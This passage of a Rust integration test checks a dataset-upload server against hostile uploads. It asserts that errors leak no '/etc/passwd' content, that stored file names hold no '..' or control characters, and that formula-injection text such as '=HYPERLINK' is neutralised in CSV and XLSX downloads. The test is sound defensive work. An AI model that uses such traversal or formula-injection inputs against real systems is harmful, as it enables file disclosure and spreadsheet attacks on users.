            assert!(!message.contains("root:"), "{}: leaked {message}", c.what);
        } else {
            let warnings = body["report"]["warnings"].as_array().map_or(0, Vec::len);
            if matches!(c.expect, Expect::DraftWithWarning) {
                assert!(warnings > 0, "{}: no warning in {body}", c.what);
            }
        }
        if c.file_name == "formulas.csv" {
            formulas_slug = Some(slug.clone());
        }
        if c.file_name == "utf16.csv" {
            assert_eq!(body["report"]["encoding"], "UTF-16LE", "{body}");
            assert_eq!(body["rows"], 4, "{body}");
        }

        // The server keeps serving, quickly.
        let health = tokio::time::timeout(Duration::from_secs(5), server.get("/healthz"))
            .await
            .unwrap_or_else(|_| panic!("{}: /healthz did not answer within 5 s", c.what));
        assert_eq!(health.status(), StatusCode::OK, "{}", c.what);
        // Nothing of the dataset is public.
        for path in [
            format!("/api/v1/datasets/{slug}"),
            format!("/api/v1/datasets/{slug}/data.csv"),
        ] {
            assert_eq!(
                server.get(&path).await.status(),
                StatusCode::NOT_FOUND,
                "{}: {path} is public",
                c.what
            );
        }
        let peak = server.peak_rss_mib();
        assert!(
            peak <= PEAK_RSS_MIB,
            "{}: the server's peak RSS reached {peak} MiB (bound {PEAK_RSS_MIB} MiB)",
            c.what
        );
        outcomes.push(Outcome {
            file: c.file_name.escape_debug().to_string(),
            status: status.as_u16(),
            code: if code.is_empty() {
                "draft".into()
            } else {
                code
            },
            secs,
            peak,
        });
    }
    let list: Value = server.get("/api/v1/datasets").await.json().await.unwrap();
    assert_eq!(list["total"], 0, "nothing may be public: {list}");
    // The hostile file names stayed inside the store.
    fn files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                files(&p, out);
            } else {
                out.push(p);
            }
        }
    }
    let mut stored = Vec::new();
    files(server.data_dir.path(), &mut stored);
    let raw: Vec<_> = stored
        .iter()
        .filter(|p| p.to_string_lossy().contains("passwd") || p.to_string_lossy().contains("name"))
        .collect();
    assert!(
        !raw.is_empty(),
        "the uploads' raw files are kept: {stored:?}"
    );
    for p in raw {
        let name = p.file_name().unwrap().to_string_lossy();
        assert!(
            !name.chars().any(char::is_control) && !name.contains(".."),
            "unsafe stored name {p:?}"
        );
    }

    eprintln!("\n| file | status | code | time (s) | server peak RSS so far (MiB) |");
    eprintln!("|---|---|---|---|---|");
    for o in &outcomes {
        eprintln!(
            "| `{}` | {} | {} | {:.1} | {} |",
            o.file, o.status, o.code, o.secs, o.peak
        );
    }

    // Formula injection: published on purpose, then downloaded.
    let slug = formulas_slug.expect("the formula case ran");
    let r = server.review_and_publish(&slug, 1).await;
    assert_eq!(r.status(), StatusCode::OK);
    let xlsx = server
        .get(&format!("/api/v1/datasets/{slug}/data.xlsx"))
        .await
        .bytes()
        .await
        .unwrap();
    use calamine::Reader;
    let mut wb = calamine::Xlsx::new(Cursor::new(xlsx.to_vec())).unwrap();
    let name = wb.sheet_names()[0].clone();
    let formulas = wb.worksheet_formula(&name).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "the XLSX download turned cell text into formulas"
    );
    let values = wb.worksheet_range(&name).unwrap();
    assert!(
        values
            .used_cells()
            .any(|(_, _, v)| v.to_string().starts_with("=HYPERLINK")),
        "the text survives as text in the XLSX"
    );
    let csv = server
        .get(&format!("/api/v1/datasets/{slug}/data.csv"))
        .await
        .text()
        .await
        .unwrap();
    let live: Vec<&str> = csv
        .lines()
        .flat_map(|l| l.split(','))
        .map(|f| f.trim_matches('"'))
        .filter(|f| f.starts_with(['=', '+', '@']) || f.starts_with("-2+"))
        .collect();
    assert!(
        live.is_empty(),
        "the CSV download leaves {} formula cells live, e.g. {:?}",
        live.len(),
        live.first()
    );
    assert!(
        csv.contains("'=HYPERLINK"),
        "the text is kept, neutralised: {csv}"
    );
}
